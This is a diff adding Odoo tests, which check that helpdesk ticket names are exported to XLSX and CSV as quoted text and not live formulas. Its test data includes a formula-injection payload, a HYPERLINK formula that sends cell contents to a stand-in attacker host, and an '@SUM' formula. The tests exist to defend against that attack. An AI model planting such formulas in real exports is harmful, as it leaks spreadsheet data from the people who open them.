@@ -1,0 +1,41 @@
+import io
+import json
+
+from odoo import http
+from odoo.tests import HttpCase, tagged
+from openpyxl import load_workbook
+
+from .common import HelpdeskCommon
+
+EVIL = '=HYPERLINK("http://attack.test/"&A1,"click")'
+
+
+@tagged('post_install', '-at_install')
+class TestHelpdeskExport(HelpdeskCommon, HttpCase):
+    """What customers write is text in every export (G20, A43)."""
+
+    def export(self, model, ids, kind):
+        self.authenticate(self.manager.login, self.manager.login.ljust(8, 'x'))
+        name = {'helpdesk.ticket': 'name', 'helpdesk.ticket.event': 'new'}[model]
+        return self.url_open(f'/web/export/{kind}', data={'csrf_token': http.Request.csrf_token(self), 'data': json.dumps({
+            'model': model, 'ids': ids, 'domain': [], 'groupby': [], 'import_compat': False,
+            'fields': [{'name': name, 'label': 'Text', 'type': 'char'}]})}).content
+
+    def setUp(self):
+        super().setUp()
+        self.manager.group_ids += self.env.ref('base.group_allow_export')
+        self.evil = self.ticket(name=EVIL)
+
+    def test_g20_xlsx(self):
+        sheet = load_workbook(io.BytesIO(self.export('helpdesk.ticket', self.evil.ids, 'xlsx'))).active
+        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), ("'" + EVIL, 's'))
+
+    def test_a43_csv(self):
+        lines = self.export('helpdesk.ticket', self.evil.ids, 'csv').decode().splitlines()
+        self.assertTrue(lines[1].startswith('"\'=HYPERLINK'), lines)
+
+    def test_a43_history(self):
+        self.evil.name = '@SUM(A1:A9)'
+        event = self.events(self.evil, 'subject')
+        sheet = load_workbook(io.BytesIO(self.export('helpdesk.ticket.event', event.ids, 'xlsx'))).active
+        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), ("'@SUM(A1:A9)", 's'))
